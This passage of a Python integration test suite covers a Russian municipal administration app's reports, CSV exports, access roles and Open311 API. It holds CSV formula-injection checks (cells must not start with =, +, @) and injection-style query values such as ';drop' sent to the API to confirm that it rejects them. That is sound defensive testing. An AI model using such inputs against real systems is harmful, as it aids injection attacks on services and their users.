            "/admin/reports/compliance?from=2020-03-01&to=2020-03-31").text
        self.assertEqual([row[0] for row in report_table(page, "instructions-late")],
                         ["Вывезти мусор со двора"])

    def test_csv_and_no_personal_data(self):
        r = USERS["controller"].get(
            "/admin/reports/compliance?from=2020-01-01&to=2020-06-30&format=csv")
        self.assertEqual(r.status, 200)
        _, blocks = csv_blocks(r.body)
        self.assertEqual(blocks["Поручения, не исполненные в срок"][0],
                         ["Поручение", "Основание", "Подразделение", "Срок исполнения",
                          "Состояние", "Дней просрочки"])
        # Dates as ISO dates (they sort), numbers as numbers.
        self.assertEqual(
            blocks["Протоколы, переданные в сектор контроля позже срока или не переданные"][1],
            ["Вторая встреча группы 1", "2020-05-20", "2020-05-27",
             "передан 1 июня 2020 г.", "5"])
        self.assertEqual(blocks["Сводка за период"][1],
                         ["Встречи главы с массовым участием жителей: проведено", "1"])
        groups = blocks["Выездные встречи информационных групп — не реже раза в квартал"]
        self.assertEqual(groups[0], ["Информационная группа", "Кварталов учтено",
                                     "Кварталов со встречей", "Проведено за эти кварталы",
                                     "Из них в периоде отчёта", "Назначено",
                                     "Прошедшие кварталы без встречи"])
        self.assertEqual(groups[2], ["Информационная группа № 2", "0", "0", "0", "0", "0", "—"])
        assert_no_personal_data(self, r.body.decode("utf-8"))
        assert_no_personal_data(self, self.page)

    def test_csv_neutralises_formulas_in_staff_text(self):
        r = USERS["controller"].get(
            "/admin/reports/compliance?from=2019-01-01&to=2019-12-31&format=csv")
        self.assertEqual(r.status, 200)
        _, blocks = csv_blocks(r.body)
        self.assertEqual(blocks["Утверждены менее чем за 5 дней в порядке исключения"][1:],
                         [["'@Встреча с формулой", "2019-03-01", "'" + FORMULA]])
        # Every text cell of every report: none starts as a formula would.
        for path in ("/admin/reports/compliance?from=2019-01-01&to=2020-12-31&format=csv",
                     "/admin/reports/appeals?year=2020&format=csv",
                     "/admin/reports/groups?year=2020&format=csv",
                     "/admin/reports/monthly?month=2020-03&format=csv"):
            _, blocks = csv_blocks(USERS["controller"].get(path).body)
            for caption, rows in blocks.items():
                for row in rows:
                    for cell in row:
                        self.assertFalse(cell[:1] in ("=", "+", "@", "\t", "\r")
                                         or (cell[:1] == "-" and not cell[1:].isdigit()),
                                         (path, caption, cell))
        # The page shows the text as it is (escaped).
        page = USERS["controller"].get("/admin/reports/compliance?from=2019-01-01&to=2019-12-31")
        self.assertIn(html.escape(FORMULA), page.text)

    def test_long_lists_are_cut_on_the_page_and_whole_in_the_csv(self):
        """120 appeals answered late in 2017: the page shows 100 and says how many more, the
        CSV has all 120."""
        STACK.execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 120) "
            "INSERT INTO appeal (year, seq, number, code_hash, source, addressee, text, "
            "received_at, registered_at, status, answer_due, forward_due, outcome, answered_at, "
            "closed_at) SELECT 2017, i, printf('2017-%05d', i), x'00', 'online', 'head', 'x', "
            "?1, ?1, 'answered', '2017-03-01', '2017-02-08', 'answered', ?2 + i * 60, "
            "?2 + i * 60 FROM n", (at(2017, 2, 1), at(2017, 3, 10)))
        page = USERS["controller"].get("/admin/reports/compliance?from=2017-01-01&to=2017-12-31")
        rows = report_table(page.text, "answered-late")
        self.assertEqual(len(rows), 100)
        self.assertEqual(rows[0][0], "2017-00001")
        self.assertIn('<tr class="more-rows"><td colspan="6">Показаны первые 100 из 120. Ещё 20 '
                      'строк — в выгрузке CSV.</td></tr>', page.text)
        self.assertEqual(as_dict(report_table(page.text, "summary"))[
            "Ответы на обращения и направления по компетенции позже срока"], ["120"])
        r = USERS["controller"].get(
            "/admin/reports/compliance?from=2017-01-01&to=2017-12-31&format=csv")
        late = csv_blocks(r.body)[1][
            "Обращения, ответ на которые дан или которые направлены по компетенции позже срока"]
        self.assertEqual(len(late), 121)
        self.assertEqual(late[120], ["2017-00120", "", "дан ответ", "2017-03-01", "2017-03-10",
                                     "9"])

    def test_bad_dates_come_back_on_the_form(self):
        r = USERS["admin"].get("/admin/reports/compliance?from=2020-06-30&to=2020-01-01")
        self.assertEqual(r.status, 400)
        self.assertRegex(r.text, r'<input type="date" id="f-to" name="to" value="2020-01-01" '
                                 r'aria-invalid="true" aria-describedby="e-to">')
        self.assertIn('<p class="field-error" id="e-to">дата «по»: раньше даты «с».</p>', r.text)
        self.assertIn('value="2020-06-30"', r.text)
        self.assertNotIn('class="report-block"', r.text)
        r = USERS["admin"].get("/admin/reports/compliance?from=2000-01-01&to=2020-01-01")
        self.assertEqual(r.status, 400)
        self.assertIn('<p class="field-error" id="e-to">дата «по»: период отчёта — не больше 10 '
                      'лет.</p>', r.text)
        r = USERS["admin"].get("/admin/reports/compliance?from=2020-02-30")
        self.assertEqual(r.status, 400)
        self.assertIn('<p class="field-error" id="e-from">', r.text)
        self.assertIn('<a href="#f-from">', r.text)

    def test_to_alone_starts_on_the_first_of_its_year(self):
        page = self.get("to=2020-03-31")
        self.assertIn("с 1 января 2020 г. по 31 марта 2020 г.", page)
        self.assertNotIn("раньше даты", page)
        page = self.get("from=2099-05-01")
        self.assertIn("с 1 мая 2099 г. по 31 декабря 2099 г.", page)


class GroupsAndMonthlyTest(unittest.TestCase):
    maxDiff = None

    def test_first_half_by_group_and_territory(self):
        r = USERS["organizer"].get("/admin/reports/groups?year=2020&half=1")
        self.assertEqual(r.status, 200)
        self.assertIn("первое полугодие 2020 г.", r.text)
        # Group 1 was given four instructions at its meetings and one more that was cancelled:
        # that one is not «given».
        self.assertEqual(report_table(r.text, "by-group"), [
            ("Информационная группа № 1", ["микрорайон Молодёжный", "2", "40", "1", "4", "2"],
             False),
            ("Информационная группа № 2", ["сельское поселение Берёзовка", "0", "0", "0", "0",
                                           "0"], False),
            ("Всего", ["", "2", "40", "1", "4", "2"], True),
        ])
        self.assertEqual(report_table(r.text, "by-territory"), [
            ("микрорайон Молодёжный", ["1", "2", "40", "1", "4", "2"], False),
            ("сельское поселение Берёзовка", ["1", "0", "0", "0", "0", "0"], False),
            ("Всего", ["2", "2", "40", "1", "4", "2"], True),
        ])
        self.assertEqual(bar_titles(r.text, "by-group"), ["Информационная группа № 1: 2"]
                         + ["Информационная группа № 2: 0"])

    def test_territories_of_the_same_name_stay_apart(self):
        """Two settlements may each have a «микрорайон Молодёжный»: summed by territory, not
        by name."""
        STACK.execute("INSERT INTO territory (id, parent_id, level, name) "
                      "VALUES (98, 6, 'microdistrict', 'микрорайон Молодёжный')")
        STACK.execute("INSERT INTO info_group (id, name, territory_id, created_at) "
                      "VALUES (98, 'Информационная группа № 98', 98, ?)", (at(2018, 1, 1),))
        try:
            r = USERS["organizer"].get("/admin/reports/groups?year=2020&half=1")
            self.assertEqual(report_table(r.text, "by-territory"), [
                ("микрорайон Молодёжный", ["1", "2", "40", "1", "4", "2"], False),
                ("сельское поселение Берёзовка", ["1", "0", "0", "0", "0", "0"], False),
                ("микрорайон Молодёжный", ["1", "0", "0", "0", "0", "0"], False),
                ("Всего", ["3", "2", "40", "1", "4", "2"], True),
            ])
        finally:
            STACK.execute("DELETE FROM info_group WHERE id = 98")
            STACK.execute("DELETE FROM territory WHERE id = 98")

    def test_whole_year_and_csv(self):
        r = USERS["organizer"].get("/admin/reports/groups?year=2020")
        self.assertEqual(as_dict(report_table(r.text, "by-group"))["Информационная группа № 2"],
                         ["сельское поселение Берёзовка", "1", "40", "0", "1", "1"])
        r = USERS["organizer"].get("/admin/reports/groups?year=2020&half=2&format=csv")
        _, blocks = csv_blocks(r.body)
        self.assertEqual(blocks["По информационным группам"][0],
                         ["Информационная группа", "Территория", "Встреч проведено",
                          "Участников", "Обращений принято", "Поручений дано",
                          "Поручений исполнено"])
        self.assertIn(["Информационная группа № 2", "сельское поселение Берёзовка", "1", "40",
                       "0", "1", "1"], blocks["По информационным группам"])

    def test_monthly_export_by_code_and_outcome_at_the_end_of_the_month(self):
        r = USERS["admin"].get("/admin/reports/monthly?month=2020-03&format=csv")
        self.assertEqual(r.status, 200)
        self.assertIn("filename=\"appeals-2020-03.csv\"", r.header("Content-Disposition"))
        head, blocks = csv_blocks(r.body)
        self.assertEqual(head, ["Обращения граждан по тематике и результатам за месяц",
                                "март 2020 г."])
        # A2, received on 11 March and answered on 20 April, was still open on 31 March.
        self.assertEqual(blocks["По кодам тематического классификатора"], [
            ["Код", "Тема", "Поступило", "Дан ответ по существу", "Направлено по компетенции",
             "Оставлено без ответа (ст. 11)", "На рассмотрении"],
            ["0003.0009.0099", "Транспорт", "1", "0", "1", "0", "0"],
            ["0005.0005.0055", "Жилищный фонд", "1", "0", "0", "0", "1"],
            ["0005.0005.0056", "Коммунальное хозяйство", "1", "0", "0", "1", "0"],
            ["Итого", "", "3", "0", "1", "1", "1"],
        ])
        assert_no_personal_data(self, r.body.decode("utf-8"))
        page = USERS["admin"].get("/admin/reports/monthly?month=2020-03")
        self.assertIn("состояние на конец месяца (31 марта 2020 г., 24:00)", page.text)
        self.assertEqual(bar_titles(page.text, "by-code"), [
            "0003.0009.0099: 1", "0005.0005.0055: 1", "0005.0005.0056: 1"])
        r = USERS["admin"].get("/admin/reports/monthly?month=2020-04")
        self.assertEqual(report_table(r.text, "by-code"), [
            ("0003.0009.0099", ["Транспорт", "1", "0", "1", "0", "0"], False),
            ("—", ["тема не указана", "1", "0", "0", "0", "1"], False),
            ("Итого", ["", "2", "0", "1", "0", "1"], True)])

    def test_bad_month_or_year_comes_back_on_the_form(self):
        r = USERS["admin"].get("/admin/reports/monthly?month=2020-13")
        self.assertEqual(r.status, 400)
        self.assertIn('<p class="field-error" id="e-month">месяц: укажите месяц в виде ГГГГ-ММ, '
                      'например 2026-03.</p>', r.text)
        self.assertIn('value="2020-13"', r.text)
        r = USERS["admin"].get("/admin/reports/appeals?year=1999")
        self.assertEqual(r.status, 400)
        self.assertIn('<p class="field-error" id="e-year">', r.text)
        r = USERS["admin"].get("/admin/reports/groups?year=2020&half=3")
        self.assertEqual(r.status, 400)
        self.assertIn('<p class="field-error" id="e-half">', r.text)
        # A format other than csv has no field on the form: the error page names it.
        r = USERS["admin"].get("/admin/reports/appeals?format=xls")
        self.assertEqual(r.status, 400)
        self.assertIn("csv", r.text)


# ---- municipalities (issue 18 item 5) -------------------------------------------------------------
OWN, DISTRICT, BEREZOVKA = 1, 2, 3  # the demo's municipalities (sql/demo/zelenoborsk.sql)


class BodyReportsTest(unittest.TestCase):
    """Each municipality's compliance and appeals reports over the data set above: territory 4 is
    Зеленоборск's (the own municipality), 6 Берёзовка's; nothing of one shows in the other's."""
    maxDiff = None

    def get(self, path):
        r = USERS["controller"].get(path)
        self.assertEqual(r.status, 200, r.text[-2000:])
        return r.text

    def test_compliance_of_berezovka_only(self):
        page = shown(self, USERS["controller"].get(
            f"/admin/reports/compliance?from=2020-01-01&to=2020-06-30&municipality={BEREZOVKA}"),
            "Сельское поселение Берёзовка; с 1 января 2020 г. по 30 июня 2020 г.").text
        self.assertEqual(report_table(page, "summary"), [
            ("Встречи главы с массовым участием жителей: проведено", ["0"], False),
            ("Личные приёмы главы: проведено", ["0"], False),
            ("Выездные встречи информационных групп: проведено", ["0"], False),
            ("Нарушения правила 5 дней", ["1"], False),
            ("Встречи, утверждённые в порядке исключения", ["0"], False),
            ("Протоколы, переданные в сектор контроля позже срока", ["0"], False),
            ("Протоколы не переданы, срок истёк (на сегодня)", ["0"], False),
            ("Ответы на обращения и направления по компетенции позже срока", ["1"], False),
            ("Обращения без ответа, срок истёк (на сегодня)", ["0"], False),
            ("Поручения, не исполненные в срок", ["0"], False),
        ])
        self.assertEqual(report_table(page, "violations"), [
            ("Встреча с опозданием анонса", ["5 апреля 2020 г.", "30 марта 2020 г.",
                                             "утверждена"], False)])
        self.assertEqual([r[0] for r in report_table(page, "answered-late")], [NUMBERS["A6"]])
        self.assertEqual([r[0] for r in report_table(page, "groups")],
                         ["Информационная группа № 2", "Итого"])
        self.assertNotIn("Встреча о паводке", page)
        self.assertNotIn(NUMBERS["A2"], page)
        # The choice is kept in the form.
        self.assertIn(f'<option value="{BEREZOVKA}" selected>', page)

    def test_compliance_of_zelenoborsk_only(self):
        page = self.get("/admin/reports/compliance?from=2020-01-01&to=2020-06-30"
                        f"&municipality={OWN}")
        summary = as_dict(report_table(page, "summary"))
        self.assertEqual(summary["Нарушения правила 5 дней"], ["0"])
        self.assertEqual(summary["Встречи, утверждённые в порядке исключения"], ["1"])
        self.assertEqual(summary["Ответы на обращения и направления по компетенции позже "
                                 "срока"], ["1"])
        self.assertEqual(summary["Поручения, не исполненные в срок"], ["3"])
        self.assertEqual(summary["Личные приёмы главы: проведено"], ["2"])
        # The own municipality keeps the plan of measures.
        self.assertEqual(summary["План мероприятий: периодов выполнено"], ["2"])
        self.assertEqual([r[0] for r in report_table(page, "answered-late")], [NUMBERS["A2"]])
        self.assertNotIn("Встреча с опозданием анонса", page)

    def test_the_whole_installation_is_the_default_and_csv_names_the_body(self):
        page = self.get("/admin/reports/compliance?from=2020-01-01&to=2020-06-30")
        self.assertEqual(as_dict(report_table(page, "summary"))["Нарушения правила 5 дней"],
                         ["1"])
        self.assertIn('<option value="">все вместе</option>', page)
        r = USERS["controller"].get("/admin/reports/compliance?from=2020-01-01&to=2020-06-30"
                                    f"&municipality={BEREZOVKA}&format=csv")
        self.assertEqual(r.status, 200)
        self.assertIn("compliance-berezovka-2020-01-01-2020-06-30.csv",
                      r.header("Content-Disposition"))
        title, blocks = csv_blocks(r.body)
        self.assertIn("Сельское поселение Берёзовка", ";".join(title))
        summary = {row[0]: row[1:] for row in blocks["Сводка за период"][1:]}
        self.assertEqual(summary["Встречи, утверждённые в порядке исключения"], ["0"])
        self.assertEqual(summary["Нарушения правила 5 дней"], ["1"])

    def test_appeals_of_each_registry(self):
        page = shown(self, USERS["admin"].get(
            f"/admin/reports/appeals?year=2020&municipality={BEREZOVKA}"),
            "Сельское поселение Берёзовка; 2020 год в сравнении с 2019 годом").text
        self.assertEqual(as_dict(report_table(page, "territories")), {
            "сельское поселение Берёзовка": ["0", "3", "+3"],
            "Всего": ["0", "3", "+3"],
        })
        self.assertEqual(as_dict(report_table(page, "sources"))["Всего"], ["0", "3", "+3"])
        page = self.get(f"/admin/reports/appeals?year=2020&municipality={OWN}")
        self.assertEqual(as_dict(report_table(page, "territories")), {
            "микрорайон Молодёжный": ["2", "2", "0"],
            "Территория не указана": ["0", "1", "+1"],
            "Всего": ["2", "3", "+1"],
        })
        r = USERS["admin"].get(f"/admin/reports/appeals?year=2020&municipality={BEREZOVKA}"
                               "&format=csv")
        self.assertIn("appeals-berezovka-2020.csv", r.header("Content-Disposition"))
        _, blocks = csv_blocks(r.body)
        self.assertEqual(blocks["По территориям"][-1][:3], ["Всего", "0", "3"])

    def test_an_unknown_municipality_comes_back_on_the_form(self):
        for path in ("/admin/reports/compliance?municipality=999",
                     "/admin/reports/appeals?municipality=999"):
            r = USERS["controller"].get(path)
            self.assertEqual(r.status, 400, path)
            self.assertIn('<p class="field-error" id="e-municipality">', r.text)
            self.assertIn("выберите из списка", r.text)


def insert_hosted(kind, title, starts, territory, host, status="held", group=None):
    """A meeting of KIND at STARTS in TERRITORY hosted by person HOST."""
    with STACK.db() as conn:
        conn.execute(
            "INSERT INTO meeting (kind, title, territory_id, starts_at, ends_at, status, host_id, "
            "group_id) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
            (kind, title, territory, starts, starts + 7200, status, host, group))


class DistrictSummaryTest(unittest.TestCase):
    """The district's summary over its settlements for 2021, a year nothing else reaches: the
    heads' yearly reports, their monthly receptions and the groups' quarterly field meetings,
    held against required, with the counts known."""
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        # Берёзовка (territory 6, head: person 11; group 2 exists since May 2020).
        insert_hosted("head_report", "Отчёт главы Берёзовки за 2020 год", at(2021, 3, 10), 6, 11)
        for month, day in ((1, 15), (2, 12), (2, 26)):
            insert_hosted("personal_reception", "Приём главы Берёзовки", at(2021, month, day),
                          6, 11)
        insert_hosted("personal_reception", "Приём заместителя", at(2021, 4, 9), 6, 2)
        insert_hosted("personal_reception", "Отменённый приём главы", at(2021, 5, 14), 6, 11,
                      status="cancelled")
        insert_hosted("group_field", "Выездная встреча группы 2", at(2021, 2, 1), 6, 2, group=2)
        insert_hosted("group_field", "Летняя встреча группы 2", at(2021, 7, 1), 7, 2, group=2)
        # Зеленоборск (territory 4, head: person 1): a reception every month, group 1 every
        # quarter, no yearly report.
        for month in range(1, 13):
            insert_hosted("personal_reception", "Приём главы Зеленоборска", at(2021, month, 5),
                          4, 1)
        for month in (2, 5, 8, 11):
            insert_hosted("group_field", "Встреча группы 1", at(2021, month, 20), 4, 3, group=1)
        # The district's own reception (territory 1) counts for no settlement.
        insert_hosted("personal_reception", "Приём главы района", at(2021, 6, 7), 1, 10)
        r = USERS["controller"].get("/admin/reports/district?year=2021")
        assert r.status == 200, (r.status, r.text[-2000:])
        cls.page = r.text

    def test_the_summary_per_settlement(self):
        shown(self, USERS["controller"].get("/admin/reports/district?year=2021"),
              "<h1>Сводка района по поселениям</h1>", "Советский муниципальный район; 2021 год")
        self.assertEqual(report_table(self.page, "summary"), [
            ("Сельское поселение Берёзовка", ["1", "2", "12", "2", "4"], False),
            ("Городское поселение Зеленоборск", ["0", "12", "12", "4", "4"], False),
        ])

    def test_a_table_per_settlement_with_held_and_required(self):
        rows = report_table(self.page, "settlement-berezovka")
        self.assertEqual(rows[0], ("Ежегодный отчёт главы перед населением",
                                   ["2021 год", "1", "1", "выполнено"], False))
        receptions = [cells for label, cells, _ in rows
                      if label == "Личный приём главы — ежемесячно"]
        self.assertEqual([c[1] for c in receptions],
                         ["1", "2", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0"])
        self.assertEqual(receptions[0], ["январь 2021 г.", "1", "1", "выполнено"])
        self.assertEqual(receptions[3], ["апрель 2021 г.", "0", "1", "не выполнено"])
        quarters = [cells for label, cells, _ in rows
                    if label == "Выездные встречи информационных групп — ежеквартально"]
        self.assertEqual(quarters, [
            ["I кв. 2021 г.", "1", "1", "выполнено"],
            ["II кв. 2021 г.", "0", "1", "не выполнено"],
            ["III кв. 2021 г.", "1", "1", "выполнено"],
            ["IV кв. 2021 г.", "0", "1", "не выполнено"],
        ])
        zelenoborsk = report_table(self.page, "settlement-zelenoborsk")
        self.assertEqual(zelenoborsk[0], ("Ежегодный отчёт главы перед населением",
                                          ["2021 год", "0", "1", "не выполнено"], False))
        self.assertIn("Глава: Ефимова Галина Степановна.", self.page)
        # The district's own reception is no settlement's, and the district has no table.
        self.assertNotIn("settlement-sovetsky-rayon", self.page)

    def test_before_groups_existed_nothing_is_required(self):
        page = self.get_page("/admin/reports/district?year=2020")
        quarters = [cells for label, cells, _ in report_table(page, "settlement-berezovka")
                    if label == "Выездные встречи информационных групп — ежеквартально"]
        self.assertEqual(quarters[0], ["I кв. 2020 г.", "0", "0", "не требуется"])
        self.assertEqual(quarters[2], ["III кв. 2020 г.", "1", "1", "выполнено"])

    def get_page(self, path):
        r = USERS["controller"].get(path)
        self.assertEqual(r.status, 200, r.text[-2000:])
        return r.text

    def test_csv(self):
        r = USERS["controller"].get("/admin/reports/district?year=2021&format=csv")
        self.assertEqual(r.status, 200)
        self.assertIn("district-sovetsky-rayon-2021.csv", r.header("Content-Disposition"))
        _, blocks = csv_blocks(r.body)
        self.assertEqual(blocks["Поселения района"][1:], [
            ["Сельское поселение Берёзовка", "1", "2", "12", "2", "4"],
            ["Городское поселение Зеленоборск", "0", "12", "12", "4", "4"]])
        self.assertIn("Сельское поселение Берёзовка", blocks)

    def test_only_a_district_can_be_chosen(self):
        r = USERS["controller"].get(f"/admin/reports/district?municipality={BEREZOVKA}")
        self.assertEqual(r.status, 400)
        self.assertIn("выберите муниципальный район из списка", r.text)
        page = self.get_page(f"/admin/reports/district?year=2021&municipality={DISTRICT}")
        self.assertIn(f'<option value="{DISTRICT}" selected>', page)
        self.assertNotIn(f'<option value="{BEREZOVKA}"', page)
        self.assertEqual(report_table(page, "summary"), report_table(self.page, "summary"))


class ReportAccessTest(unittest.TestCase):
    PATHS = ("/admin/reports", "/admin/reports/compliance", "/admin/reports/appeals",
             "/admin/reports/groups", "/admin/reports/monthly?format=csv",
             "/admin/reports/district")

    def test_press_and_executor_are_refused(self):
        for role in ("press", "executor", "secretary"):
            for path in self.PATHS:
                self.assertEqual(USERS[role].get(path).status, 403, (role, path))
            self.assertNotIn('href="/admin/reports"',
                             shown(self, USERS[role].get("/admin"), "<h1>Рабочий стол</h1>").text,
                             role)

    def test_admin_controller_organizer_reach_them_from_the_home_page(self):
        for role in ("admin", "controller", "organizer"):
            home = USERS[role].get("/admin").text
            self.assertIn('<a href="/admin/reports">Отчёты</a>', home, role)
            for path in self.PATHS:
                self.assertEqual(USERS[role].get(path).status, 200, (role, path))
        index = USERS["admin"].get("/admin/reports").text
        for link in ("/admin/reports/compliance", "/admin/reports/appeals",
                     "/admin/reports/groups", "/admin/reports/monthly",
                     "/admin/reports/district"):
            self.assertIn(f'href="{link}', index)

    def test_print_styles_for_a4(self):
        with open(helpers.__file__.replace("tests/integration/helpers.py", "static/style.css"),
                  encoding="utf-8") as f:
            css = f.read()
        self.assertIn("size: A4", css)


ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$")
# The fields of a service request in the GeoReport v2 specification's answer to GET
# requests.json (wiki.open311.org/GeoReport_v2, "Response"), in its order, with the JSON types
# it allows: what a server lacks is sent as null, never left out.
SPEC_REQUEST_FIELDS = (
    ("service_request_id", (str,)), ("status", (str,)), ("status_notes", (str, type(None))),
    ("service_name", (str, type(None))), ("service_code", (str,)),
    ("description", (str, type(None))), ("agency_responsible", (str, type(None))),
    ("service_notice", (str, type(None))), ("requested_datetime", (str,)),
    ("updated_datetime", (str, type(None))), ("expected_datetime", (str, type(None))),
    ("address", (str, type(None))), ("address_id", (str, type(None))),
    ("zipcode", (str, type(None))), ("lat", (float, int, type(None))),
    ("long", (float, int, type(None))), ("media_url", (str, type(None))),
)


class Open311Test(unittest.TestCase):
    maxDiff = None

    def get_json(self, path, status=200):
        r = STACK.get(path)
        self.assertEqual(r.status, status, (path, r.text[:500]))
        self.assertEqual(r.header("Content-Type"), "application/json; charset=utf-8")
        assert_no_personal_data(self, r.text)
        return json.loads(r.body)

    def check_request(self, item):
        self.assertEqual(set(item), {name for name, _ in SPEC_REQUEST_FIELDS})
        for key, kinds in SPEC_REQUEST_FIELDS:
            self.assertIsInstance(item[key], kinds, key)
        self.assertIn(item["status"], ("open", "closed"))
        self.assertRegex(item["requested_datetime"], ISO)
        self.assertRegex(item["updated_datetime"], ISO)

    def test_discovery_and_services(self):
        d = self.get_json("/api/open311/v2/discovery.json")
        self.assertRegex(d["changeset"], ISO)
        self.assertEqual(d["endpoints"][0]["specification"], "http://wiki.open311.org/GeoReport_v2")
        self.assertTrue(d["endpoints"][0]["url"].endswith("/api/open311/v2"))
        self.assertEqual(d["endpoints"][0]["formats"], ["application/json"])
        services = self.get_json("/api/open311/v2/services.json")
        by_code = {s["service_code"]: s for s in services}
        self.assertEqual(by_code["0005.0005.0056"], {
            "service_code": "0005.0005.0056", "service_name": "Коммунальное хозяйство",
            "description": "Жилище. Коммунальное хозяйство", "metadata": False,
            "type": "realtime", "keywords": "Жилищно-коммунальная сфера, Жилище",
            "group": "Жилищно-коммунальная сфера"})
        self.assertEqual(by_code["0002.0004"]["group"], "Социальная сфера")
        self.assertNotIn("0005", by_code)  # sections are groups, not services
        for s in services:
            self.assertIsInstance(s["metadata"], bool)

    def test_requests_in_a_range_only_published(self):
        items = self.get_json("/api/open311/v2/requests.json?start_date=2020-01-01T00:00:00%2B05:00"
                              "&end_date=2020-03-30T00:00:00Z")
        self.assertEqual([i["service_request_id"] for i in items], [NUMBERS["A1"]])
        item = items[0]
        self.check_request(item)
        self.assertEqual(item, {
            "service_request_id": NUMBERS["A1"], "status": "closed",
            "status_notes": "Публичный ответ A1", "service_name": "Коммунальное хозяйство",
            "service_code": "0005.0005.0056", "description": "Публичный вопрос A1",
            "agency_responsible": item["agency_responsible"],
            "service_notice": None,
            "requested_datetime": "2020-02-10T12:00:00+05:00",
            "updated_datetime": "2020-03-06T12:00:00+05:00", "expected_datetime": None,
            "address": "микрорайон Молодёжный", "address_id": None, "zipcode": None,
            "lat": None, "long": None, "media_url": None})
        self.assertTrue(item["agency_responsible"].startswith("Администрация"))

    def test_default_window_filters_and_one_request(self):
        items = self.get_json("/api/open311/v2/requests.json")
        self.assertEqual([i["service_request_id"] for i in items], [NUMBERS["C1"]])
        self.check_request(items[0])
        self.assertEqual(self.get_json("/api/open311/v2/requests.json?status=open"), [])
        self.assertEqual(len(self.get_json("/api/open311/v2/requests.json?status=closed")), 1)
        self.assertEqual(self.get_json(
            "/api/open311/v2/requests.json?service_code=0005.0005.0056"), [])
        self.assertEqual(len(self.get_json(
            "/api/open311/v2/requests.json?service_code=0005.0005.0056,0003.0009.0099")), 1)
        ids = self.get_json("/api/open311/v2/requests.json?service_request_id="
                            f"{NUMBERS['B1']},{NUMBERS['A4']}")
        self.assertEqual([i["service_request_id"] for i in ids], [NUMBERS["B1"]])
        one = self.get_json(f"/api/open311/v2/requests/{NUMBERS['A1']}.json")
        self.assertEqual(len(one), 1)
        self.check_request(one[0])
        self.assertEqual(one[0]["service_request_id"], NUMBERS["A1"])

    def test_errors_are_the_spec_array(self):
        for number in (NUMBERS["A4"], NUMBERS["C2"], "2020-99999"):
            err = self.get_json(f"/api/open311/v2/requests/{number}.json", 404)
            self.assertEqual(err[0]["code"], 404)
            self.assertIsInstance(err[0]["description"], str)
        for query in ("start_date=%D0%B2%D1%87%D0%B5%D1%80%D0%B0", "start_date=2020-01-01&end_date=2020-12-31",
                      "status=pending", "end_date=2020-02-30T00:00:00Z"):
            err = self.get_json(f"/api/open311/v2/requests.json?{query}", 400)
            self.assertEqual(err[0]["code"], 400, query)

    def test_start_date_alone_means_90_days_from_it(self):
        items = self.get_json("/api/open311/v2/requests.json?start_date=2020-01-01")
        self.assertEqual([i["service_request_id"] for i in items], [NUMBERS["A1"]])
        self.assertEqual(self.get_json(
            "/api/open311/v2/requests.json?start_date=2020-04-01T00:00:00Z"), [])

    def test_service_request_id_overrides_the_other_arguments(self):
        items = self.get_json(f"/api/open311/v2/requests.json?service_request_id={NUMBERS['A1']}"
                              "&start_date=%D0%B2%D1%87%D0%B5%D1%80%D0%B0&end_date=2000-01-01"
                              "&status=pending&service_code=%3Bx")
        self.assertEqual([i["service_request_id"] for i in items], [NUMBERS["A1"]])
        err = self.get_json("/api/open311/v2/requests.json?service_request_id=%3Bdrop", 400)
        self.assertEqual(err[0]["code"], 400)

    def test_other_paths_formats_and_methods_answer_the_spec_array(self):
        for path, status in (("/api/open311/v2/services", 400),
                             ("/api/open311/v2/services.xml", 400),
                             ("/api/open311/v2/requests.xml", 400),
                             (f"/api/open311/v2/requests/{NUMBERS['A1']}.xml", 400),
                             (f"/api/open311/v2/requests/{NUMBERS['A1']}", 400),
                             ("/api/open311/v2/tokens.json", 404),
                             ("/api/open311/v2", 404),
                             ("/api/open311/v2/", 404)):
            err = self.get_json(path, status)
            self.assertEqual(len(err), 1, path)
            self.assertEqual(set(err[0]), {"code", "description"}, path)
            self.assertEqual(err[0]["code"], status, path)
        for method, path in (("POST", "/api/open311/v2/requests.json"),
                             ("PUT", "/api/open311/v2/services.json"),
                             ("DELETE", f"/api/open311/v2/requests/{NUMBERS['A1']}.json")):
            r = STACK.request(method, path, body=b'{"service_code": "0003.0009.0099"}',
                              headers={"Content-Type": "application/json"})
            self.assertEqual(r.status, 405, (method, path, r.text[:300]))
            self.assertEqual(r.header("Allow"), "GET, HEAD")
            self.assertEqual(r.header("Content-Type"), "application/json; charset=utf-8")
            self.assertEqual(json.loads(r.body)[0]["code"], 405)


if __name__ == "__main__":
    unittest.main()